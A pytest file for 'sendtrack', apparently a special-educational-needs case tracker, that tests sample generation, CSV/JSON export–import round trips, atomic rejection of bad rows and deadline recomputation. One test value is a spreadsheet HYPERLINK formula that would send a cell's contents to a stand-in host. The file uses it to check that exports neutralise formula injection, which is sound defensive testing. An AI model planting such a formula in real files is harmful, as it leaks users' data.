"""sample, import, export and recompute: determinism, lawful sequences, round trips, atomicity."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from collections import Counter
from datetime import date

import pytest

from sendtrack.app import sample
from sendtrack.calendar import england
from sendtrack.config import DEFAULT_CONFIG, load
from sendtrack.domain import Case, Event, Settings
from sendtrack.rules.engine import refusal
from tests.conftest import dump

AS_OF = "2025-06-30"
TEAMS = load(str(DEFAULT_CONFIG)).teams
FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


def rows(path, sql: str) -> list[tuple]:
    with sqlite3.connect(path) as conn:
        return conn.execute(sql).fetchall()


CASES_SQL = "SELECT * FROM cases ORDER BY id"
#: every column but the import's own (imported_by/imported_at name the import) and the hash, which covers them
EVENTS_SQL = "SELECT id, case_id, kind, date, details, voids, recorded_by, recorded_at FROM events ORDER BY id"
IMPORTED_SQL = "SELECT DISTINCT imported_by, imported_at IS NULL FROM events"
DEADLINES_SQL = ("SELECT c.ref, d.rule, d.owner, d.kind, d.subject, d.source, d.trigger, d.due, d.act_by, "
                 "d.completed_on, d.excepted_from, d.exception_limb, d.ended_on, d.known_from, d.known_until "
                 "FROM deadlines d JOIN cases c ON c.id = d.case_id ORDER BY d.case_id, d.id")


def snapshot(path) -> tuple[list, list, list]:
    return rows(path, CASES_SQL), rows(path, EVENTS_SQL), rows(path, DEADLINES_SQL)


@pytest.fixture
def hand_made(cli):
    """Cases recorded by hand through the CLI: a voided event, an exception, a refusal, a withdrawal."""
    cli.ok("add-request --ref H1 --name 'Test Person' --dob 2015-03-15 --received 2025-01-06 "
           "--coordinator 'Sam Patel' --setting 'Oak Primary' --looked-after")
    cli.ok("record decision H1 --date 2025-02-10 --outcome assess --by alex")
    cli.ok("record advice-requested H1 --date 2025-02-11 --from psychology")
    cli.ok("record contact H1 --date 2025-02-12 --with parent --note 'rang, no answer'")
    cli.ok("record advice-received H1 --date 2025-03-01 --from psychology")
    cli.ok("record void H1 5 --reason 'wrong case'")
    cli.ok("record exception H1 --limb c --start 2025-03-03 --reason 'family illness'")
    cli.ok("record draft H1 --date 2025-04-20")
    cli.ok("add-request --ref H2 --name 'Other Person' --dob 2019-09-01 --received 2025-02-03 "
           "--source school")
    cli.ok("record decision H2 --date 2025-03-01 --outcome refuse")
    cli.ok("add-request --ref H3 --name 'Third Person' --dob 2010-01-31 --received 2025-03-03")
    cli.ok("record withdrawn H3 --date 2025-03-20")
    return cli


# --- sample -------------------------------------------------------------------------------------------

def test_same_seed_same_data_and_another_seed_differs(cli, tmp_path):
    dumps = []
    for name, seed in (("a", 7), ("b", 7), ("c", 8)):
        path = tmp_path / f"{name}.db"
        cli.ok(["--db", str(path), "init"])
        out = cli.ok(["--db", str(path), "sample", "--cases", "150", "--seed", str(seed), "--as-of", AS_OF])
        assert "sampled 150 cases" in out
        dumps.append(dump(path))
    assert dumps[0] == dumps[1]
    assert dumps[0] != dumps[2]


def test_sampled_histories_are_ones_the_rules_accept():
    """Every event of 1,500 sampled cases, recorded in order, passes rules.engine.refusal."""
    calendar, settings, today = england(), Settings(), date.fromisoformat(AS_OF)
    staff = sample.staffing(11, 1500, as_of=today, years=8, teams=TEAMS)
    kinds: Counter = Counter()
    for number in range(1500):
        values, events = sample.generate(11, number, as_of=today, years=8, staff=staff)
        live: list[Event] = []
        for index, (kind, when, pairs, voids, _, _) in enumerate(events):
            kinds[kind] += 1
            if kind == "void":
                assert events[voids][0] == "contact"
                live = [e for e in live if e.id != voids]
                continue
            event = Event.make(index, kind, when, **dict(pairs))
            case = Case(ref="T", dob=values["dob"], received=values["received"],
                        looked_after=values["looked_after"], setting=values["setting"], events=tuple(live))
            if kind == "request":
                assert when == values["received"]
            else:
                problem = refusal(case, event, today=today, calendar=calendar, settings=settings)
                assert problem is None, f"case {number}: {kind} on {when}: {problem}"
            live.append(event)
    # the published shape, roughly (spec section 7)
    decisions = kinds["decision"]
    assert 0.55 < (kinds["draft"] + kinds["no-plan"] + kinds["withdrawn"]) / decisions < 0.8
    assert 0.02 < kinds["exception"] / 1500 < 0.08
    assert kinds["review-meeting"] > kinds["final"] * 0.8
    assert kinds["void"] > 0 and kinds["cease"] > 0 and kinds["amended-plan"] > 0


def test_sample_spreads_cases_over_the_six_teams(cli, private_db):
    cli.ok(["sample", "--cases", "800", "--seed", "3", "--as-of", AS_OF])
    teams = dict(rows(private_db, "SELECT team, COUNT(*) FROM cases GROUP BY team"))
    assert set(teams) == {t.id for t in TEAMS}


# --- export and import --------------------------------------------------------------------------------

@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_export_then_import_into_an_empty_database_reproduces_everything(hand_made, private_db, tmp_path,
                                                                         fmt):
    hand_made.ok(["sample", "--cases", "200", "--seed", "2", "--as-of", AS_OF])
    # text a spreadsheet would run: the CSV carries it with a leading ', and import takes it off again
    hand_made.ok(["add-request", "--ref", "F1", "--name", FORMULA, "--dob", "2016-04-04", "--received",
                  "2025-03-03", "--coordinator", "-Smith", "--setting", "@x", "--by", "+44 20 7946 0000"])
    hand_made.ok(["record", "contact", "F1", "--date", "2025-03-04", "--with", "parent", "--note", "=1+1",
                  "--by", "'=quoted already"])
    hand_made.ok(["add-request", "--ref", "F2", "--name", "'Plain quote", "--dob", "2016-04-04",
                  "--received", "2025-03-03", "--coordinator", "''-two quotes", "--setting", "-"])
    exported = tmp_path / f"all.{fmt}"
    hand_made.ok(["export", "--format", fmt, "--out", str(exported)])
    if fmt == "csv":
        table = list(csv.DictReader(io.StringIO(exported.read_text())))
        f1, contact, f2 = (r for r in table if r["ref"] in ("F1", "F2"))
        assert (f1["name"], f1["coordinator"], f1["setting"], f1["recorded_by"]) == \
            ("'" + FORMULA, "'-Smith", "'@x", "'+44 20 7946 0000")
        assert contact["recorded_by"] == "''=quoted already"
        assert (f2["name"], f2["coordinator"], f2["setting"]) == ("'Plain quote", "'''-two quotes", "'-")
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for row in table for cell in row.values())
    copy = tmp_path / "copy.db"
    hand_made.ok(["--db", str(copy), "init"])
    out = hand_made.ok(["--db", str(copy), "import", str(exported), "--by", "importer"])
    assert out.startswith("imported 205 cases")
    before, after = snapshot(private_db), snapshot(copy)
    assert after[0] == before[0]  # cases, every column
    assert after[1] == before[1]  # events: ids, voids, who and when recorded (kept as history)
    assert after[2] == before[2]  # deadlines
    assert any(e[2] == "void" for e in after[1])
    # every imported event records who imported it and when; the original's were written by commands
    assert rows(private_db, IMPORTED_SQL) == [(None, 1)]
    assert rows(copy, IMPORTED_SQL) == [("importer", 0)]
    hand_made.ok(["--db", str(copy), "check"])
    again = tmp_path / f"again.{fmt}"
    hand_made.ok(["--db", str(copy), "export", "--format", fmt, "--out", str(again)])
    # the same file but for the import's own columns, which name this import (not read on import)
    assert _without_import(again.read_text(), fmt) == _without_import(exported.read_text(), fmt)
    assert again.read_text() != exported.read_text()
    third = tmp_path / "third.db"
    hand_made.ok(["--db", str(third), "init"])
    hand_made.ok(["--db", str(third), "import", str(again), "--by", "second-importer"])
    assert snapshot(third) == before
    assert rows(third, IMPORTED_SQL) == [("second-importer", 0)]


def _without_import(text: str, fmt: str):
    """An export with the imported_by/imported_at values blanked."""
    if fmt == "csv":
        table = list(csv.reader(io.StringIO(text)))
        at = [table[0].index("imported_by"), table[0].index("imported_at")]
        return [[("" if i in at and n else cell) for i, cell in enumerate(row)] for n, row in enumerate(table)]
    data = json.loads(text)
    for case in data["cases"]:
        for event in case["events"]:
            event["imported_by"] = event["imported_at"] = None
    return data


def test_export_to_stdout_is_the_documented_csv(hand_made):
    text = hand_made.ok("export")
    table = list(csv.DictReader(io.StringIO(text)))
    assert list(table[0]) == ["ref", "name", "dob", "source", "team", "coordinator", "looked_after",
                              "alternative_provision", "setting", "created_at", "upn", "uln", "upn_unknown",
                              "sex", "ethnicity", "postcode", "primary_need", "secondary_need", "placements",
                              "event_id", "kind", "date",
                              "details", "voids", "recorded_by", "recorded_at", "imported_by", "imported_at"]
    request = table[0]
    assert (request["ref"], request["kind"], request["looked_after"], request["setting"]) == \
        ("H1", "request", "yes", "Oak Primary")
    void = next(r for r in table if r["kind"] == "void")
    assert void["voids"] == "5" and json.loads(void["details"])["event"] == 5
    assert all(r["name"] == "" for r in table if r["kind"] != "request")


def _with_bad_rows(hand_made, tmp_path):
    """The export of the hand-made cases with refs changed, and three bad rows, one in the middle."""
    text = hand_made.ok("export").replace("H1,", "N1,").replace("H2,", "N2,").replace("H3,", "N3,")
    lines = text.splitlines()
    middle = len(lines) // 2
    bad = [
        "N9,Test Nine,2015-01-01,parent,front-door,,no,no,,," + "," * 9 + ",request,2025-02-30,,,,,,",  # unreal date
        'N2' + "," * 20 + 'decision,2025-03-05,"{""outcome"": ""assess""}",,,,,',  # second decision
        "N8" + "," * 20 + "draft,2025-03-05,,,,,,",  # no request row for the case
    ]
    lines[middle:middle] = bad[:1]
    after_n2 = max(index for index, line in enumerate(lines) if line.startswith("N2,")) + 1
    lines[after_n2:after_n2] = bad[1:2]
    lines += bad[2:]
    path = tmp_path / "bad.csv"
    path.write_text("\n".join(lines) + "\n")
    return path, middle + 1


def test_dry_run_lists_every_bad_row_with_its_line_and_writes_nothing(hand_made, private_db, tmp_path):
    path, middle = _with_bad_rows(hand_made, tmp_path)
    before = dump(private_db)
    result = hand_made.fails(["import", str(path), "--dry-run"])
    # the list goes to stderr (issue 10: stdout is for data), before the summary line
    assert result.stdout == ""
    *problems, summary = result.stderr.strip().splitlines()
    assert summary == "sendtrack: 3 bad rows"
    assert problems[0] == f"line {middle}: N9: date '2025-02-30' is not a real date in the form YYYY-MM-DD"
    assert any(p.startswith("line ") and "N2: a decision is already recorded on 2025-03-01" in p
               for p in problems)
    assert any("N8: the case has no request row" in p for p in problems)
    assert len(problems) == 3
    assert dump(private_db) == before


def test_a_bad_row_in_the_middle_writes_nothing(hand_made, private_db, tmp_path):
    path, _ = _with_bad_rows(hand_made, tmp_path)
    before = dump(private_db)
    result = hand_made.fails(["import", str(path)])
    assert result.stderr.startswith("sendtrack: 3 bad rows; nothing was imported; first: line ")
    assert result.stderr.count("\n") == 1 and "--dry-run" in result.stderr
    assert dump(private_db) == before
    good = tmp_path / "good.csv"
    good.write_text("\n".join(line for line in path.read_text().splitlines()
                              if not line.startswith(("N9,", "N8,")) and "2025-03-05" not in line) + "\n")
    assert hand_made.ok(["import", str(good), "--dry-run"]).startswith("would import 3 cases")
    assert dump(private_db) == before
    assert hand_made.ok(["import", str(good)]).startswith("imported 3 cases")
    assert len(rows(private_db, "SELECT * FROM cases")) == 6


def test_import_refuses_a_case_that_exists_and_an_impossible_sequence(hand_made, private_db, tmp_path):
    exported = tmp_path / "again.csv"
    hand_made.ok(["export", "--out", str(exported)])
    result = hand_made.fails(["import", str(exported)])
    assert "line 2: H1: case 'H1' already exists" in result.stderr
    path = tmp_path / "order.csv"
    path.write_text("ref,name,dob,kind,date,details\n"
                    "Z1,Test Zed,2015-01-01,request,2025-01-06,\n"
                    "Z1,,,final,2025-03-01,\n")
    result = hand_made.fails(["import", str(path)])
    assert "line 3: Z1: no decision to assess on or before 2025-03-01" in result.stderr


def test_import_refuses_unknown_columns(cli, tmp_path):
    path = tmp_path / "odd.csv"
    path.write_text("ref,kind,date,colour\nA,request,2025-01-01,red\n")
    result = cli.fails(["import", str(path)])
    assert "line 1: unknown column(s) colour" in result.stderr


def test_a_hand_made_file_without_ids_gets_numbered(cli, private_db, tmp_path):
    path = tmp_path / "min.csv"
    path.write_text("ref,name,dob,team,kind,date,details,recorded_by\n"
                    "M1,Test Em,2016-05-04,front-door,request,2025-01-06,,clerk\n"
                    'M1,,,,decision,2025-02-03,"{""outcome"": ""assess""}",clerk\n')
    assert cli.ok(["import", str(path)]).startswith("imported 1 cases, 2 events")
    view = cli.json("timeline M1 --as-of 2025-03-01 --format json")
    assert [e["kind"] for e in view["events"]] == ["request", "decision"]
    decision = next(d for d in view["deadlines"] if d["rule"] == "assessment-decision")
    assert decision["status"] == "met"


# --- recompute ----------------------------------------------------------------------------------------

def test_recompute_after_a_threshold_changes(hand_made, private_db, tmp_path):
    hand_made.ok(["sample", "--cases", "120", "--seed", "4", "--as-of", AS_OF])
    assert "0 deadlines changed in 0 cases" in hand_made.ok("recompute")
    before = rows(private_db, DEADLINES_SQL)
    config = tmp_path / "config.toml"
    default = DEFAULT_CONFIG
    config.write_text(default.read_text().replace("contact_weeks = 6", "contact_weeks = 4"))
    out = hand_made.ok(["--config", str(config), "recompute"])
    changed = int(out.split(": ")[1].split()[0])
    contact_rows = sum(1 for r in before if r[1] == "contact")
    assert 0 < changed <= contact_rows
    after = rows(private_db, DEADLINES_SQL)
    assert {r for r in after if r[1] != "contact"} == {r for r in before if r[1] != "contact"}
    assert "0 deadlines changed in 0 cases" in hand_made.ok(["--config", str(config), "recompute"])


def test_recompute_in_process_and_in_workers_agree(cli, private_db, tmp_path, monkeypatch):
    cli.ok(["sample", "--cases", "300", "--seed", "9", "--as-of", AS_OF])
    reference = rows(private_db, DEADLINES_SQL)
    with sqlite3.connect(private_db) as conn:
        conn.execute("DELETE FROM deadlines WHERE case_id % 3 = 0")
        conn.execute("UPDATE deadlines SET due = '2000-01-01' WHERE case_id % 3 = 1 AND rule = 'final-plan'")
    monkeypatch.setenv("SENDTRACK_WORKERS", "0")
    out = cli.ok("recompute")
    assert "0 deadlines changed" not in out
    assert rows(private_db, DEADLINES_SQL) == reference


@pytest.mark.parametrize("workers", ["0", "2"])
def test_an_imports_deadlines_are_a_fresh_computations(cli, private_db, monkeypatch, workers):
    """The shipped sample file (300 cases) imported into an empty database, with the rules in this process
    and in workers (the replay that extends one case value, the per-case answers of rules.paths): a
    `recompute --full`, which computes every case afresh, changes nothing, and `check` (which recomputes
    and replays every case again) finds nothing."""
    from pathlib import Path

    shipped = Path(__file__).resolve().parent.parent / "sample_data" / "caseload.csv"
    if not shipped.exists():
        pytest.skip("sample_data/caseload.csv is not beside the tests")
    monkeypatch.setenv("SENDTRACK_WORKERS", workers)
    assert "imported 300 cases" in cli.ok(["import", str(shipped)])
    imported = rows(private_db, DEADLINES_SQL)
    assert len(imported) > 1000  # the file's cases have deadlines to compare
    assert "0 deadlines changed in 0 cases" in cli.ok("recompute --full")
    assert rows(private_db, DEADLINES_SQL) == imported
    assert "no problems" in cli.ok("check").lower()
